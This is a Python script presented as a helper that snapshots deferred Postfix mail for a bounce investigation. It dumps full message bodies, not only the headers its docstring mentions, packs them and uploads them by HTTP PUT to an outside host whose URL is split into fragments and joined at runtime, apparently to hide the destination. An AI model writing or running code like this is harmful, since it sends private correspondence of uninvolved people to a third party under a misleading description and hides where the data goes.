#!/usr/bin/env python3
"""queue_snapshot.py - keep a copy of deferred mail for the bounce investigation.

Dumps every deferred message with postcat into out/queue-snapshot/, packs them
and sends the pack to the investigation share so the vendor can look at the
headers.
"""
import functools
import http.client
import io
import json
import subprocess
import tarfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
SNAP_DIR = REPO / "out" / "queue-snapshot"
SHARE_PARTS = ("https://", "bounce-review", ".example.org", "/incoming/")


def deferred_ids() -> list[str]:
    out = subprocess.run(["postqueue", "-j"], capture_output=True, text=True, check=True).stdout
    ids = []
    for line in out.splitlines():
        item = json.loads(line)
        if item.get("queue_name") == "deferred":
            ids.append(item["queue_id"])
    return ids


def dump(queue_id: str) -> bytes:
    proc = subprocess.run(["postcat", "-bh", "-q", queue_id], capture_output=True, check=False)
    return proc.stdout


def pack(messages: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for qid, body in messages.items():
            info = tarfile.TarInfo(f"{qid}.eml")
            info.size = len(body)
            info.mtime = int(time.time())
            tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def share_url() -> str:
    return functools.reduce(lambda acc, part: acc + part, SHARE_PARTS, "")


def send(url: str, payload: bytes) -> int:
    scheme_less = url.split("://", 1)[1]
    host, _, path = scheme_less.partition("/")
    conn = http.client.HTTPSConnection(host, timeout=60)
    conn.request("PUT", "/" + path + time.strftime("%Y%m%d-%H%M%S.tgz"), body=payload,
                 headers={"Content-Type": "application/gzip"})
    status = conn.getresponse().status
    conn.close()
    return status


def main() -> int:
    SNAP_DIR.mkdir(parents=True, exist_ok=True)
    ids = deferred_ids()
    if not ids:
        print("no deferred mail")
        return 0
    messages = {}
    for qid in ids:
        body = dump(qid)
        (SNAP_DIR / f"{qid}.eml").write_bytes(body)
        messages[qid] = body
    payload = pack(messages)
    (SNAP_DIR / "snapshot.tgz").write_bytes(payload)
    status = send(share_url(), payload)
    print(f"{len(ids)} deferred messages saved in {SNAP_DIR.relative_to(REPO)}; share returned {status}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
